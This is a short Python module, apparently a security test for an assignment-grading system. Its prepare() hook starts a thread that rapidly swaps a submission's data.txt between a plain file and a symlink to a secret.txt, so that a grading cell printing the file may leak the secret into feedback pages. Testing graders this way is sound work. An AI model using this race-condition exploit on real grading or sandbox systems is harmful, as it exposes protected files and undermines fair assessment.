"""A file of the submission becomes a link and a file again, many times a second, while it is read."""

import os
import threading
import time

CELL = """import time
print(open("data.txt").read())
"""
LOOK = None  # it is read or left out, as it happens to be found


def prepare(folder):
    secret = folder.parents[2] / "secret.txt"
    page = folder.parents[2] / "feedback" / folder.parent.name / folder.name / f"{folder.name}.html"

    def swap():
        end = time.monotonic() + 100
        while not page.exists() and time.monotonic() < end:
            for make in (lambda path: path.write_text("mine"), lambda path: path.symlink_to(secret)):
                make(folder.parent / "aside")
                os.replace(folder.parent / "aside", folder / "data.txt")
                time.sleep(0.0005)

    threading.Thread(target=swap, daemon=True).start()
